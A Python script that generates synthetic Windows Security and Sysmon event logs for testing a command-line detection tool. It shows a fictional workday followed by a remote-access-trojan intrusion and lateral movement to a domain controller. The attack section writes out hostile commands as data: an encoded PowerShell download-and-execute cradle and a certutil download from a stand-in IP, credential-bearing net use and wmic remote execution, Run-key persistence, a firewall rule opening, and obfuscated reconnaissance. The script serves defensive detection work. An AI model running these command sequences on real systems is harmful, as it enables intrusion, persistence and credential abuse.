#!/usr/bin/env python3
"""Writes samples/quickstart.jsonl: one invented working day on a domain workstation, then an
intrusion through remote-access malware (JPCERT/CC command study: recon, discovery, spread) and
lateral movement to a domain controller. Everything here is made up: hosts, users, SIDs, pids,
GUIDs and hashes. Output is deterministic (no clock, no random module).

    python3 samples/make_quickstart.py > samples/quickstart.jsonl
    build/dev/cmdsentry-mkevtx samples/quickstart.jsonl samples/quickstart.evtx
"""
import base64
import hashlib
import json
import sys

SEC_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"
SYS32 = "C:\\Windows\\System32\\"
TEMP = "C:\\Users\\akimura\\AppData\\Local\\Temp\\"
RAT = TEMP + "mstsc_upd.exe"
MS = ("Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System")

# image file name -> (FileVersion, Description, Product, Company, OriginalFileName)
META = {}
def meta(name, desc, original=None, version="10.0.19041.1 (WinBuild.160101.0800)", product=None,
         company=None):
    META[name.lower()] = (version, desc, product or MS[1], company or MS[0], original or name)
for n, d in [("cmd.exe", "Windows Command Processor"), ("conhost.exe", "Console Window Host"),
             ("tasklist.exe", "Lists the current running tasks"), ("ipconfig.exe", "IP Configuration Utility"),
             ("systeminfo.exe", "Displays system information"), ("net.exe", "Net Command"),
             ("net1.exe", "Net Command"), ("NETSTAT.EXE", "TCP/IP Netstat Command"),
             ("whoami.exe", "whoami - displays logged on user information"),
             ("qprocess.exe", "Query Process Utility"), ("query.exe", "Query Utility"),
             ("quser.exe", "Query User Utility"), ("PING.EXE", "TCP/IP Ping Command"),
             ("nltest.exe", "Microsoft\u00ae Logon Server Test Utility"), ("at.exe", "Schedule service command line interface"),
             ("reg.exe", "Registry Console Tool"), ("WMIC.exe", "WMI Commandline Utility", ),
             ("wusa.exe", "Windows Update Standalone Installer"), ("netsh.exe", "Network Command Shell"),
             ("sc.exe", "Service Control Manager Configuration Tool"), ("rundll32.exe", "Windows host process (Rundll32)"),
             ("certutil.exe", "CertUtil.exe"), ("vssadmin.exe", "Command Line Interface for Microsoft\u00ae Volume Shadow Copy Service "),
             ("wevtutil.exe", "Eventing Command Line Utility"), ("svchost.exe", "Host Process for Windows Services"),
             ("userinit.exe", "Userinit Logon Application"), ("explorer.exe", "Windows Explorer"),
             ("notepad.exe", "Notepad"), ("taskhostw.exe", "Host Process for Windows Tasks"),
             ("RuntimeBroker.exe", "Runtime Broker"), ("SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
             ("backgroundTaskHost.exe", "Background Task Host"), ("WmiPrvSE.exe", "WMI Provider Host"),
             ("SecurityHealthSystray.exe", "Windows Security notification icon"), ("dllhost.exe", "COM Surrogate"),
             ("smartscreen.exe", "Windows Defender SmartScreen"), ("ntdsutil.exe", "NT5DS"),
             ("WerFault.exe", "Windows Problem Reporting"), ("gpupdate.exe", "Microsoft\u00ae Group Policy Update Utility")]:
    meta(n, d)
meta("powershell.exe", "Windows PowerShell", "PowerShell.EXE", "10.0.19041.546 (WinBuild.160101.0800)")
meta("OUTLOOK.EXE", "Microsoft Outlook", "Outlook.exe", "16.0.17328.20162", "Microsoft Outlook", "Microsoft Corporation")
meta("EXCEL.EXE", "Microsoft Excel", "Excel.exe", "16.0.17328.20162", "Microsoft Office", "Microsoft Corporation")
meta("WINWORD.EXE", "Microsoft Word", "WinWord.exe", "16.0.17328.20162", "Microsoft Office", "Microsoft Corporation")
meta("chrome.exe", "Google Chrome", "chrome.exe", "122.0.6261.95", "Google Chrome", "Google LLC")
meta("ms-teams.exe", "Microsoft Teams", "ms-teams.exe", "24033.811.2738.2546", "Microsoft Teams", "Microsoft Corporation")
meta("OneDrive.exe", "Microsoft OneDrive", "OneDrive.exe", "24.020.0128.0003", "Microsoft OneDrive", "Microsoft Corporation")
meta("mstsc_upd.exe", "-", "-", "-", "-", "-")
meta("\u8acb\u6c42\u66f8_0302.exe", "-", "-", "-", "-", "-")
meta("msupd.exe", "Net Command", "net.exe")
meta("dsquery.exe", "Microsoft AD DS/LDS query command line utility", "dsquery.exe", "10.0.14393.0 (rs1_release.160715-1616)")
meta("csvde.exe", "Active Directory Import/Export", "csvde.exe", "10.0.14393.0 (rs1_release.160715-1616)")


def lcg(seed):
    """Tiny deterministic generator (the random module's algorithms may change between versions)."""
    state = seed
    while True:
        state = (state * 6364136223846793005 + 1442695040888963407) % (1 << 64)
        yield state >> 33


class Host:
    def __init__(self, fqdn, netbios, sysmon, cmdline_audit, guid_prefix, first_pid, seed):
        self.fqdn, self.netbios = fqdn, netbios
        self.sysmon, self.cmdline_audit = sysmon, cmdline_audit
        self.guid_prefix, self.next_pid, self.rand, self.seq = guid_prefix, first_pid, lcg(seed), 0x2f00

    def pid(self):
        self.next_pid += 4 * (1 + next(self.rand) % 90)
        return self.next_pid

    def process_guid(self, t):
        secs = ts_seconds(t)
        self.seq += 1
        return "{%s-%04x-%04x-%04x-0000000%05x}" % (self.guid_prefix, (secs >> 16) & 0xFFFF,
                                                   secs & 0xFFFF, 0xa100 + (self.seq & 0xFF), self.seq)


class User:
    def __init__(self, domain, name, sid, logon_id, logon_guid, integrity, label, elevation):
        self.domain, self.name, self.sid, self.logon_id = domain, name, sid, logon_id
        self.logon_guid, self.integrity, self.label, self.elevation = logon_guid, integrity, label, elevation


class Proc:
    def __init__(self, host, pid, guid, image, cmdline, parent, user, cwd):
        self.host, self.pid, self.guid, self.image = host, pid, guid, image
        self.cmdline, self.parent, self.user, self.cwd = cmdline, parent, user, cwd


DAY = "2026-03-02"
EVENTS = []  # (time key, order, dict)


def at(hms, ms=0):
    """Ticks (100 ns) since DAY 00:00:00Z for "HH:MM:SS" plus milliseconds."""
    h, m, sec = (int(x) for x in hms.split(":"))
    return ((h * 60 + m) * 60 + sec) * 10**7 + ms * 10**4


def iso(t):
    secs, frac = divmod(t, 10**7)
    return "%sT%02d:%02d:%02d.%07dZ" % (DAY, secs // 3600, secs // 60 % 60, secs % 60, frac)


def ts_seconds(t):
    return 1772409600 + t // 10**7  # 2026-03-02T00:00:00Z


def add_ms(t, ms):
    return t + ms * 10**4


def emit(t, ev):
    ev["time"] = iso(t)
    EVENTS.append((t, len(EVENTS), ev))


def security(t, host, event_id, version, task, data, tid=7316):
    emit(t, {"provider": "Microsoft-Windows-Security-Auditing", "guid": SEC_GUID, "channel": "Security",
             "event_id": event_id, "version": version, "level": 0, "task": task, "opcode": 0,
             "keywords": "0x8020000000000000", "time": t, "computer": host.fqdn, "pid": 4,
             "tid": tid, "user_sid": None, "data": data})


def fake_hashes(image):
    name = image.rsplit("\\", 1)[-1].lower().encode()
    sha = hashlib.sha256(b"cmdsentry-sample:" + name).hexdigest().upper()
    imp = hashlib.md5(b"cmdsentry-imphash:" + name).hexdigest().upper()
    return "SHA256=%s,IMPHASH=%s" % (sha, imp)


def start(host, t, image, cmdline, parent, user=None, cwd=None, sysmon=True):
    """4688 for a new process, and Sysmon 1 when the host runs Sysmon."""
    user = user or parent.user
    cwd = cwd or (parent.cwd if parent else SYS32)
    p = Proc(host, host.pid(), host.process_guid(t), image, cmdline, parent, user, cwd)
    creator = parent.user
    same = creator is user
    security(t, host, 4688, 2, 13312, [
        ["SubjectUserSid", "sid", creator.sid], ["SubjectUserName", "string", creator.name],
        ["SubjectDomainName", "string", creator.domain], ["SubjectLogonId", "hexint64", creator.logon_id],
        ["NewProcessId", "hexint64", hex(p.pid)], ["NewProcessName", "string", image],
        ["TokenElevationType", "string", user.elevation], ["ProcessId", "hexint64", hex(parent.pid)],
        ["CommandLine", "string", cmdline if host.cmdline_audit else ""],
        ["TargetUserSid", "sid", "S-1-0-0" if same else user.sid],
        ["TargetUserName", "string", "-" if same else user.name],
        ["TargetDomainName", "string", "-" if same else user.domain],
        ["TargetLogonId", "hexint64", "0x0" if same else user.logon_id],
        ["ParentProcessName", "string", parent.image], ["MandatoryLabel", "sid", user.label]],
        tid=7316 if host is WKS else 5120)
    name = image.rsplit("\\", 1)[-1]
    if host.sysmon and sysmon:
        m = META[name.lower()]
        st = add_ms(t, 3)
        emit(st, {"provider": "Microsoft-Windows-Sysmon", "guid": SYSMON_GUID,
                  "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "version": 5,
                  "level": 4, "task": 1, "opcode": 0, "keywords": "0x8000000000000000", "time": st,
                  "computer": host.fqdn, "pid": 2944, "tid": 3560, "user_sid": "S-1-5-18", "data": [
                      ["RuleName", "string", "-"], ["UtcTime", "string", iso(t)[:10] + " " + iso(t)[11:23]],
                      ["ProcessGuid", "guid", p.guid], ["ProcessId", "uint32", p.pid],
                      ["Image", "string", image], ["FileVersion", "string", m[0]],
                      ["Description", "string", m[1]], ["Product", "string", m[2]],
                      ["Company", "string", m[3]], ["OriginalFileName", "string", m[4]],
                      ["CommandLine", "string", cmdline], ["CurrentDirectory", "string", cwd],
                      ["User", "string", user.domain + "\\" + user.name], ["LogonGuid", "guid", user.logon_guid],
                      ["LogonId", "hexint64", user.logon_id], ["TerminalSessionId", "uint32", 1 if user is AKI else 0],
                      ["IntegrityLevel", "string", user.integrity], ["Hashes", "string", fake_hashes(image)],
                      ["ParentProcessGuid", "guid", parent.guid], ["ParentProcessId", "uint32", parent.pid],
                      ["ParentImage", "string", parent.image], ["ParentCommandLine", "string", parent.cmdline],
                      ["ParentUser", "string", parent.user.domain + "\\" + parent.user.name]]})
    return p


def exit_(t, p, status="0x0"):
    security(t, p.host, 4689, 0, 13313, [
        ["SubjectUserSid", "sid", p.user.sid], ["SubjectUserName", "string", p.user.name],
        ["SubjectDomainName", "string", p.user.domain], ["SubjectLogonId", "hexint64", p.user.logon_id],
        ["Status", "hexint32", status], ["ProcessId", "hexint64", hex(p.pid)],
        ["ProcessName", "string", p.image]], tid=7316 if p.host is WKS else 5120)


def logon(t, host, user, logon_type, process, ip, port, workstation, package="Negotiate",
          logon_process="User32 ", elevated="%%1843", linked="0x0"):
    system = SYSTEM[host.netbios]
    security(t, host, 4624, 2, 12544, [
        ["SubjectUserSid", "sid", system.sid if process.pid != 0 else "S-1-0-0"],
        ["SubjectUserName", "string", system.name if process.pid != 0 else "-"],
        ["SubjectDomainName", "string", system.domain if process.pid != 0 else "-"],
        ["SubjectLogonId", "hexint64", system.logon_id if process.pid != 0 else "0x0"],
        ["TargetUserSid", "sid", user.sid], ["TargetUserName", "string", user.name],
        ["TargetDomainName", "string", user.domain], ["TargetLogonId", "hexint64", user.logon_id],
        ["LogonType", "uint32", logon_type], ["LogonProcessName", "string", logon_process],
        ["AuthenticationPackageName", "string", package], ["WorkstationName", "string", workstation],
        ["LogonGuid", "guid", user.logon_guid], ["TransmittedServices", "string", "-"],
        ["LmPackageName", "string", "-"], ["KeyLength", "uint32", 0],
        ["ProcessId", "hexint64", hex(process.pid)], ["ProcessName", "string", process.image if process.pid != 0 else "-"],
        ["IpAddress", "string", ip], ["IpPort", "string", port], ["ImpersonationLevel", "string", "%%1833"],
        ["RestrictedAdminMode", "string", "-"], ["TargetOutboundUserName", "string", "-"],
        ["TargetOutboundDomainName", "string", "-"], ["VirtualAccount", "string", "%%1843"],
        ["TargetLinkedLogonId", "hexint64", linked], ["ElevatedToken", "string", elevated]],
        tid=7316 if host is WKS else 5120)


# ---- cast ----------------------------------------------------------------------------------
WKS = Host("WKS-FIN-07.corp.example", "WKS-FIN-07", True, True, "9a4c2e71", 5400, 7)
DC = Host("DC01.corp.example", "DC01", False, False, "3f81b6d0", 3100, 11)
SYSTEM = {
    "WKS-FIN-07": User("CORP", "WKS-FIN-07$", "S-1-5-18", "0x3e7", "{00000000-0000-0000-0000-000000000000}", "System", "S-1-16-16384", "%%1936"),
    "DC01": User("CORP", "DC01$", "S-1-5-18", "0x3e7", "{00000000-0000-0000-0000-000000000000}", "System", "S-1-16-16384", "%%1936"),
}
SYS_W = SYSTEM["WKS-FIN-07"]
SYS_D = SYSTEM["DC01"]
AKI = User("CORP", "akimura", DOMAIN_SID + "-1106", "0x5c3a1f", "{9a4c2e71-8f2a-69a4-1f3a-5c0000000000}", "Medium", "S-1-16-8192", "%%1938")
NETSVC_D = User("NT AUTHORITY", "NETWORK SERVICE", "S-1-5-20", "0x3e4", "{00000000-0000-0000-0000-000000000000}", "System", "S-1-16-16384", "%%1936")
ADM = User("CORP", "adm-tsato", DOMAIN_SID + "-1320", "0x1b7c44e", "{3f81b6d0-61c4-69a5-2e9c-b71400000000}", "High", "S-1-16-12288", "%%1936")

def fixed(host, pid, image, cmdline, user, guid):
    p = Proc(host, pid, guid, image, cmdline, None, user, SYS32)
    return p
W_SYSTEM = fixed(WKS, 4, "System", "", SYS_W, "{9a4c2e71-0000-0000-0000-000000000000}")
W_SERVICES = fixed(WKS, 724, SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe", SYS_W, "{9a4c2e71-7a10-69a4-0b00-000000002f00}")
W_WINLOGON = fixed(WKS, 676, SYS32 + "winlogon.exe", "winlogon.exe", SYS_W, "{9a4c2e71-7a10-69a4-0a00-000000002f00}")
W_LSASS = fixed(WKS, 740, SYS32 + "lsass.exe", "C:\\Windows\\system32\\lsass.exe", SYS_W, "{9a4c2e71-7a10-69a4-0c00-000000002f00}")
W_DCOM = fixed(WKS, 904, SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", SYS_W, "{9a4c2e71-7a11-69a4-0e00-000000002f00}")
W_SEARCH = fixed(WKS, 5168, SYS32 + "SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", SYS_W, "{9a4c2e71-7a20-69a4-2a00-000000002f00}")
NO_PROCESS = fixed(DC, 0, "-", "", SYS_D, "{00000000-0000-0000-0000-000000000000}")  # network logons
D_SERVICES = fixed(DC, 688, SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe", SYS_D, "{3f81b6d0-0001-0000-0000-000000000000}")
D_DCOM = fixed(DC, 852, SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", SYS_D, "{3f81b6d0-0002-0000-0000-000000000000}")
PF = "C:\\Program Files\\"
PF86 = "C:\\Program Files (x86)\\"
OFFICE = PF + "Microsoft Office\\root\\Office16\\"
CHROME = PF + "Google\\Chrome\\Application\\chrome.exe"

CONHOST = "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"


def later(p, t, status="0x0"):
    exit_(t, p, status)


def shell(host, t, parent, command, children=(), cmd_image=SYS32 + "cmd.exe", prefix="cmd.exe /c ",
          runtime_ms=900, status="0x0"):
    """`cmd.exe /c command` started by `parent`, its conhost, its external programs.
    children: (image, cmdline[, grandchildren as (image, cmdline)]) in order of execution."""
    cmd = start(host, t, cmd_image, prefix + command, parent)
    start(host, add_ms(t, 11), SYS32 + "conhost.exe", CONHOST, cmd, sysmon=False)
    step = add_ms(t, 60)
    for child in children:
        image, cl = child[0], child[1]
        c = start(host, step, image, cl, cmd)
        for gi, gcl in (child[2] if len(child) > 2 else ()):
            g = start(host, add_ms(step, 25), gi, gcl, c)
            later(g, add_ms(step, 25 + runtime_ms // 2))
        later(c, add_ms(step, runtime_ms), status)
        step = add_ms(step, runtime_ms + 40)
    # conhost exits are not written: keeps the sample under 500 events
    later(cmd, add_ms(step, 25), status)
    return cmd


def net(sub, image=SYS32 + "net.exe", line=None):
    """net.exe and the net1.exe it starts for the real work."""
    return (image, line or "net  " + sub, [(SYS32 + "net1.exe", "C:\\Windows\\system32\\net1  " + sub)])


# ---- 08:41 logon and a normal morning -------------------------------------------------------
logon(at("08:41:12", 310), WKS, AKI, 2, W_LSASS, "127.0.0.1", "0", "WKS-FIN-07")
AKI_ELEV = User("CORP", "akimura", AKI.sid, "0x5c3a40", AKI.logon_guid, "High", "S-1-16-12288", "%%1937")
logon(at("08:41:12", 311), WKS, AKI_ELEV, 2, W_LSASS, "127.0.0.1", "0", "WKS-FIN-07", elevated="%%1842", linked=AKI.logon_id)
userinit = start(WKS, at("08:41:13", 20), SYS32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe", W_WINLOGON, user=AKI)
explorer = start(WKS, at("08:41:14", 105), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", userinit, cwd="C:\\Windows\\system32\\")
later(userinit, at("08:41:44", 500))
EXPL = explorer
EXPL.cwd = "C:\\Users\\akimura\\"
start(WKS, at("08:41:19", 240), SYS32 + "SecurityHealthSystray.exe", "\"C:\\Windows\\System32\\SecurityHealthSystray.exe\" ", EXPL)
onedrive = start(WKS, at("08:41:20", 610), "C:\\Users\\akimura\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "\"C:\\Users\\akimura\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", EXPL)
start(WKS, at("08:41:22", 15), SYS32 + "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", W_DCOM, user=AKI)
th = start(WKS, at("08:41:23", 400), SYS32 + "taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", fixed(WKS, 1288, SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", SYS_W, "{9a4c2e71-7a11-69a4-1300-000000002f00}"), user=AKI)
teams = start(WKS, at("08:42:05", 730), "C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe", "\"C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe\" msteams:system-initiated", EXPL)
outlook = start(WKS, at("08:43:30", 12), OFFICE + "OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\" ", EXPL)
chrome = start(WKS, at("08:47:02", 555), CHROME, "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ", EXPL)
for i, (hms, kind) in enumerate([("08:47:03", "gpu-process"), ("08:47:03", "utility"), ("08:47:04", "renderer"), ("09:12:40", "renderer"), ("10:31:08", "renderer")]):
    extra = " --utility-sub-type=network.mojom.NetworkService" if kind == "utility" else ""
    r = start(WKS, at(hms, 100 + i * 37), CHROME, "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=%s%s --lang=ja --field-trial-handle=1884,i,%d --mojo-platform-channel-handle=%d /prefetch:%d" % (kind, extra, 1122334455 + i, 2100 + i * 8, 2 + i), chrome)
    if hms == "09:12:40":
        later(r, at("09:40:02", 80))
excel = start(WKS, at("09:05:41", 871), OFFICE + "EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\akimura\\OneDrive - Corp\\\u7d4c\u7406\\2026\u5e743\u6708_\u7d4c\u8cbb\u7cbe\u7b97.xlsx\"", EXPL)
for hms, ms in [("09:20:00", 7), ("10:20:00", 9), ("11:20:00", 4)]:
    s = start(WKS, at(hms, ms), SYS32 + "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%d Global\\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" " % (ms, ms), W_SEARCH, user=SYS_W)
    later(s, at(hms, 0) + 45 * 10**7)
note = start(WKS, at("09:33:27", 18), SYS32 + "notepad.exe", "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\akimura\\Desktop\\\u4f1a\u8b70\u30e1\u30e2.txt", EXPL)
later(note, at("09:51:03", 402))
for hms in ("09:45:10", "11:45:10", "13:45:10", "15:45:10"):
    b = start(WKS, at(hms, 330), SYS32 + "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountBackgroundManagerTask", W_DCOM, user=AKI)
    later(b, at(hms, 330) + 8 * 10**7)
gp = start(WKS, at("10:02:11", 90), SYS32 + "gpupdate.exe", "gpupdate.exe /target:user", th)
later(gp, at("10:02:19", 640))
svc = fixed(WKS, 2236, SYS32 + "svchost.exe", "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC", SYS_W, "{9a4c2e71-7a15-69a4-1800-000000002f00}")
for hms in ("10:15:00", "12:15:00", "14:15:00"):
    w = start(WKS, at(hms, 5), SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wlidsvc", W_SERVICES, user=SYS_W)
    later(w, at(hms, 5) + 120 * 10**7)
    d = start(WKS, at(hms, 760), SYS32 + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", W_DCOM, user=AKI)
    later(d, at(hms, 760) + 30 * 10**7)
word = start(WKS, at("10:44:52", 61), OFFICE + "WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\akimura\\Documents\\\u5831\u544a\u66f8_Q4.docx\" /o \"\"", EXPL)
later(word, at("11:58:30", 12))
# a user shell of her own: harmless admin-ish commands (false-positive bait)
shell(WKS, at("11:03:05", 200), EXPL, "ipconfig /flushdns", [(SYS32 + "ipconfig.exe", "ipconfig  /flushdns")], prefix="\"C:\\Windows\\system32\\cmd.exe\" /c ")
shell(WKS, at("11:04:40", 10), EXPL, "ping -n 2 intranet.corp.example", [(SYS32 + "PING.EXE", "ping  -n 2 intranet.corp.example")], prefix="\"C:\\Windows\\system32\\cmd.exe\" /c ")
later(excel, at("12:01:44", 935))

# ---- 13:07 the attachment ----------------------------------------------------------------
ATTACH = "C:\\Users\\akimura\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q8ZK2M1L\\\u8acb\u6c42\u66f8_0302.exe"
dropper = start(WKS, at("13:07:31", 204), ATTACH, "\"%s\" " % ATTACH, outlook)
ss = start(WKS, at("13:07:31", 530), SYS32 + "smartscreen.exe", "C:\\Windows\\System32\\smartscreen.exe -Embedding", W_DCOM, user=AKI)
later(ss, at("13:07:36", 0))
rat = start(WKS, at("13:07:33", 18), RAT, "\"%s\" -k 4443" % RAT, dropper, cwd=TEMP)
later(dropper, at("13:07:34", 700))

# ---- 13:12 recon (JPCERT: tasklist, ver, ipconfig, systeminfo, net time, netstat, whoami,
#      net start, qprocess, query user) -----------------------------------------------------
R = lambda hms, ms, command, children=(), **kw: shell(WKS, at(hms, ms), rat, command, children, **kw)
R("13:12:04", 117, "tasklist /v", [(SYS32 + "tasklist.exe", "tasklist  /v")])
R("13:12:31", 402, "ver")
R("13:12:50", 9, "ipconfig /all", [(SYS32 + "ipconfig.exe", "ipconfig  /all")])
R("13:13:22", 640, "systeminfo", [(SYS32 + "systeminfo.exe", "systeminfo")], runtime_ms=4200)
R("13:14:05", 31, "net time", [net("time")], status="0x2")
R("13:14:40", 770, "netstat -ano", [(SYS32 + "NETSTAT.EXE", "netstat  -ano")])
R("13:15:12", 55, "whoami /all", [(SYS32 + "whoami.exe", "whoami  /all")])
R("13:15:48", 300, "net start", [net("start")])
R("13:16:20", 7, "qprocess *", [(SYS32 + "qprocess.exe", "qprocess  *")])
R("13:16:59", 512, "query user", [(SYS32 + "query.exe", "query  user", [(SYS32 + "quser.exe", "\"C:\\Windows\\system32\\quser.exe\" ")])])
R("13:17:40", 88, "ver & ipconfig /all & net view", [(SYS32 + "ipconfig.exe", "ipconfig  /all"), net("view")])
R("13:18:33", 250, "set", [])

# ---- 13:26 discovery (dir, net view, ping, net use, type, net user /domain, localgroup,
#      group "domain admins", dsquery, csvde, nltest) ---------------------------------------
R("13:26:02", 600, "dir C:\\Users\\akimura\\Documents")
R("13:26:45", 14, "dir \\\\FS-02\\share$\\\u7d4c\u7406")
R("13:27:30", 400, "net view \\\\FS-02", [net("view \\\\FS-02")])
R("13:28:11", 90, "ping -n 1 fs-02.corp.example", [(SYS32 + "PING.EXE", "ping  -n 1 fs-02.corp.example")])
R("13:29:03", 333, "ping -n 1 dc01.corp.example", [(SYS32 + "PING.EXE", "ping  -n 1 dc01.corp.example")])
R("13:30:47", 21, "net use", [net("use")])
R("13:31:30", 770, "type C:\\Users\\akimura\\Desktop\\vpn_passwords.txt")
R("13:33:02", 5, "net user /domain", [net("user /domain")])
R("13:33:50", 640, "net localgroup administrators", [net("localgroup administrators")])
R("13:34:41", 123, "net group \"domain admins\" /domain", [net("group \"domain admins\" /domain")])
R("13:36:10", 456, "n^et us^er adm-tsato /domain", [net("user adm-tsato /domain")])
R("13:37:02", 98, "n\"e\"t group \"Enterprise Admins\" /domain", [net("group \"Enterprise Admins\" /domain", line="n\"e\"t  group \"Enterprise Admins\" /domain")])
R("13:38:15", 310, "%COMSPEC% /c \"net localgroup \"Remote Desktop Users\"\"", [(SYS32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe  /c \"net localgroup \"Remote Desktop Users\"\"", [(SYS32 + "net.exe", "net  localgroup \"Remote Desktop Users\"")])])
R("13:40:20", 77, "nltest /dclist:corp.example", [(SYS32 + "nltest.exe", "nltest  /dclist:corp.example")])
R("13:42:09", 600, "nltest /domain_trusts", [(SYS32 + "nltest.exe", "nltest  /domain_trusts")])
R("13:45:31", 40, "dsquery computer -limit 0", [(TEMP + "dsquery.exe", "dsquery  computer -limit 0")], runtime_ms=2100)
R("13:46:55", 810, "dsquery user -name adm* -limit 50", [(TEMP + "dsquery.exe", "dsquery  user -name adm* -limit 50")])
R("13:48:30", 222, "csvde -f %TEMP%\\ad.csv -r \"(objectClass=user)\" -l sAMAccountName,description,memberOf", [(TEMP + "csvde.exe", "csvde  -f C:\\Users\\akimura\\AppData\\Local\\Temp\\ad.csv -r \"(objectClass=user)\" -l sAMAccountName,description,memberOf")], runtime_ms=5600)
R("13:51:14", 19, "copy C:\\Windows\\System32\\net.exe C:\\Users\\Public\\msupd.exe")
R("13:51:40", 503, "C:\\Users\\Public\\msupd.exe group \"domain computers\" /domain", [("C:\\Users\\Public\\msupd.exe", "C:\\Users\\Public\\msupd.exe  group \"domain computers\" /domain", [(SYS32 + "net1.exe", "C:\\Windows\\system32\\net1  group \"domain computers\" /domain")])])
ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/s/a.ps1')".encode("utf-16-le")).decode()
R("13:55:02", 47, "powershell -nop -w hidden -enc " + ENC, [(SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell  -nop -w hidden -enc " + ENC)], runtime_ms=3800)
R("13:58:40", 360, "certutil -urlcache -split -f http://203.0.113.45/s/t.dat C:\\Users\\Public\\t.dat", [(SYS32 + "certutil.exe", "certutil  -urlcache -split -f http://203.0.113.45/s/t.dat C:\\Users\\Public\\t.dat")])

# ---- 14:20 spread (at, net use with credentials, reg add Run, wmic /node, wusa, netsh, sc
#      \\host create/start, rundll32) ---------------------------------------------------------
R("14:20:12", 140, "at \\\\FS-02 14:35 C:\\Windows\\Temp\\mstsc_upd.exe", [(SYS32 + "at.exe", "at  \\\\FS-02 14:35 C:\\Windows\\Temp\\mstsc_upd.exe")], status="0x1")
R("14:21:40", 66, "net use \\\\DC01\\C$ /user:CORP\\adm-tsato Sum1re!2026", [net("use \\\\DC01\\C$ /user:CORP\\adm-tsato Sum1re!2026")])
R("14:22:31", 205, "copy %TEMP%\\mstsc_upd.exe \\\\DC01\\C$\\Windows\\Temp\\mstsc_upd.exe")
R("14:23:50", 11, "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MsUpdate /t REG_SZ /d \"C:\\Users\\akimura\\AppData\\Local\\Temp\\mstsc_upd.exe -k 4443\" /f", [(SYS32 + "reg.exe", "reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MsUpdate /t REG_SZ /d \"C:\\Users\\akimura\\AppData\\Local\\Temp\\mstsc_upd.exe -k 4443\" /f")])
R("14:25:03", 430, "netsh advfirewall firewall add rule name=\"Windows Update Service\" dir=in action=allow protocol=TCP localport=4443", [(SYS32 + "netsh.exe", "netsh  advfirewall firewall add rule name=\"Windows Update Service\" dir=in action=allow protocol=TCP localport=4443")])
R("14:26:30", 75, "wusa %TEMP%\\w.msu /extract:%TEMP%\\w /quiet", [(SYS32 + "wusa.exe", "wusa  C:\\Users\\akimura\\AppData\\Local\\Temp\\w.msu /extract:C:\\Users\\akimura\\AppData\\Local\\Temp\\w /quiet")])
R("14:28:45", 888, "wmic /node:DC01 /user:CORP\\adm-tsato /password:Sum1re!2026 process call create \"C:\\Windows\\Temp\\mstsc_upd.exe -k 4443\"", [(SYS32 + "wbem\\WMIC.exe", "wmic  /node:DC01 /user:CORP\\adm-tsato /password:Sum1re!2026 process call create \"C:\\Windows\\Temp\\mstsc_upd.exe -k 4443\"")], runtime_ms=2300)
# on DC01: network logon, WmiPrvSE starts the implant (no Sysmon, no command-line auditing there)
logon(at("14:28:46", 610), DC, ADM, 3, NO_PROCESS, "10.20.30.47", "50112", "WKS-FIN-07", package="NTLM", logon_process="NtLmSsp ", elevated="%%1842")
wmi = start(DC, at("14:28:46", 990), SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", D_DCOM, user=NETSVC_D)
dc_rat = start(DC, at("14:28:47", 402), "C:\\Windows\\Temp\\mstsc_upd.exe", "C:\\Windows\\Temp\\mstsc_upd.exe -k 4443", wmi, user=ADM)
